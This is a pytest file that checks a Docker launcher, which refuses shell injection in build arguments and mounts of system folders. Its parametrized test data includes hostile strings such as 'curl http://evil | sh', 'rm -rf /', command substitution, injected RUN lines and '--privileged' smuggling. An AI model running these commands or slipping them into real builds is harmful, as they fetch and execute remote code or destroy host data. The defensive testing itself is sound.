"""``repro docker``: no shell injection through build arguments, no dangerous host mounts.

The engine is never called: ``subprocess.run`` is replaced by a recorder, so each case asserts
both the error and that nothing was built, run or created on the host.
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from types import SimpleNamespace

import pytest

import repro.cli.docker as launcher
from repro.cli import main
from repro.docker_safety import check_build_arg, check_mount_source
from repro.errors import UserError

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def engine(monkeypatch):
    calls: list[list[str]] = []

    def fake_run(cmd, *args, **kwargs):
        calls.append(list(cmd))
        if cmd[1:3] == ["image", "inspect"]:
            return SimpleNamespace(returncode=0, stdout="sha256:feed\n", stderr="")
        return SimpleNamespace(returncode=0, stdout="0123abc\n", stderr="")

    monkeypatch.setattr(launcher.subprocess, "run", fake_run)
    monkeypatch.setattr(launcher.shutil, "which", lambda name: f"/usr/bin/{name}")
    monkeypatch.setenv("REPRO_CONTAINER_ENGINE", "docker")
    return calls


INJECTIONS = [
    "--all; curl http://evil | sh",
    "--all && rm -rf /",
    "$(id)",
    "`id`",
    "--all\nRUN evil",
    "--all | tee /etc/passwd",
    "'--all'",
    "--all > /cache/x",
    "${HOME}",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_prefetch_models_with_shell_syntax_is_refused_before_the_build(engine, capsys, payload):
    assert main(["docker", "build", f"--prefetch-models={payload}"]) == 2
    assert "build argument PREFETCH_MODELS" in capsys.readouterr().err
    assert not [c for c in engine if c[1:2] == ["build"]]


@pytest.mark.parametrize("image", ["ubuntu; rm -rf /", "img\nRUN x", "$(evil)", "--privileged", " spaced"])
def test_a_base_image_that_is_not_an_image_reference_is_refused(engine, capsys, image):
    assert main(["docker", "build", f"--cuda-image={image}"]) == 2
    assert "CUDA_IMAGE" in capsys.readouterr().err
    assert not [c for c in engine if c[1:2] == ["build"]]


def test_good_build_arguments_still_pass(engine):
    assert main(["docker", "build", "--prefetch-models=--all", "--cuda-image", "debian:bookworm-slim"]) == 0
    build = next(c for c in engine if c[1:2] == ["build"])
    args = dict(a.split("=", 1) for b, a in zip(build, build[1:]) if b == "--build-arg")
    assert args["PREFETCH_MODELS"] == "--all" and args["CUDA_IMAGE"] == "debian:bookworm-slim"


def test_the_dockerfile_never_expands_prefetch_models_in_a_shell():
    text = (ROOT / "Dockerfile").read_text()
    runs = [line for line in text.splitlines() if line.startswith("RUN") and "PREFETCH_MODELS" in line]
    assert len(runs) == 1
    argv = json.loads(runs[0][len("RUN") :])  # exec form: a JSON list, not a shell line
    assert argv[0] == "python3" and "${PREFETCH_MODELS}" not in runs[0]
    # what the exec-form step does with a hostile value: one literal argument list, nothing executed
    env = {"PREFETCH_MODELS": "--all; touch /tmp/pwned"}
    code = argv[2].replace("subprocess.call(", "print(").replace("sys.exit(", "(")
    namespace: dict = {}
    import contextlib
    import io
    import os

    buf = io.StringIO()
    old = os.environ.get("PREFETCH_MODELS")
    os.environ.update(env)
    try:
        with contextlib.redirect_stdout(buf):
            exec(code, namespace)  # noqa: S102 - our own Dockerfile line, with the call replaced by print
    finally:
        if old is None:
            del os.environ["PREFETCH_MODELS"]
        else:
            os.environ["PREFETCH_MODELS"] = old
    assert buf.getvalue().strip() == str(["repro", "models", "fetch", "--all;", "touch", "/tmp/pwned"])
    assert shlex.split(env["PREFETCH_MODELS"])[0] == "--all;"


@pytest.mark.parametrize(
    "folder",
    ["/", "/etc", "/etc/ssh", "/usr", "/usr/lib", "/bin", "/var", "/proc", "/proc/self", "/sys", "/dev", "/boot",
     "/run", "/var/run/docker.sock", "/home", "/root", "/var/lib/docker", "/tmp"],
)
def test_system_folders_are_refused_as_mounts(engine, capsys, folder):
    assert main(["docker", "run", "--data-root", folder, "--", "suite", "smoke"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("repro docker: error: --data") and ("refused" in err or "whole system" in err)
    assert not [c for c in engine if c[1:2] == ["run"]]


def test_a_symlink_to_the_root_is_refused_as_the_root(tmp_path, engine, capsys):
    link = tmp_path / "innocent"
    link.symlink_to("/")
    assert main(["docker", "run", "--out", str(link), "--", "suite", "smoke"]) == 2
    assert "--out" in capsys.readouterr().err
    assert not [c for c in engine if c[1:2] == ["run"]]


def test_home_itself_is_refused_but_a_folder_inside_is_fine(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    with pytest.raises(UserError, match="whole system or home tree"):
        check_mount_source(tmp_path, "--cache")
    assert check_mount_source(tmp_path / "data", "--data") == (tmp_path / "data").resolve()


def test_a_path_with_a_colon_is_refused(tmp_path, engine, capsys):
    assert main(["docker", "run", "--data-root", str(tmp_path / "a:/etc"), "--", "suite", "smoke"]) == 2
    assert "contains ':'" in capsys.readouterr().err
    assert not (tmp_path / "a:").exists()  # nothing created before the checks


def test_data_is_mounted_read_only_unless_asked(tmp_path, engine):
    argv = ["docker", "run", "--data-root", str(tmp_path / "d"), "--out", str(tmp_path / "r"), "--cache",
            str(tmp_path / "c")]
    assert main([*argv, "--", "suite", "smoke"]) == 0
    pairs = list(zip(engine[-1], engine[-1][1:]))
    assert ("-v", f"{tmp_path / 'd'}:/data:ro") in pairs and ("-v", f"{tmp_path / 'r'}:/runs") in pairs
    assert main([*argv, "--data-rw", "--", "data", "synth", "--out", "/data"]) == 0
    assert ("-v", f"{tmp_path / 'd'}:/data") in list(zip(engine[-1], engine[-1][1:]))


@pytest.mark.parametrize(("flag", "value"), [("--shm-size", "16g; id"), ("--tag", "repro --privileged"),
                                             ("--gpus", "0 --privileged")])
def test_other_run_options_are_checked(tmp_path, engine, capsys, flag, value):
    argv = ["docker", "run", "--data-root", str(tmp_path / "d"), "--out", str(tmp_path / "r"), f"{flag}={value}"]
    assert main([*argv, "--", "suite", "smoke"]) == 2
    assert flag in capsys.readouterr().err
    assert not [c for c in engine if c[1:2] == ["run"]]


def test_build_arg_patterns_are_strict():
    assert check_build_arg("UID", "1000") == "1000"
    for name, value in [("UID", "0; id"), ("GIT_COMMIT", "HEAD`id`"), ("PREFETCH_MODELS", "a\tb")]:
        with pytest.raises(UserError, match=name):
            check_build_arg(name, value)
    with pytest.raises(UserError, match="unknown build argument"):
        check_build_arg("EVIL", "x")
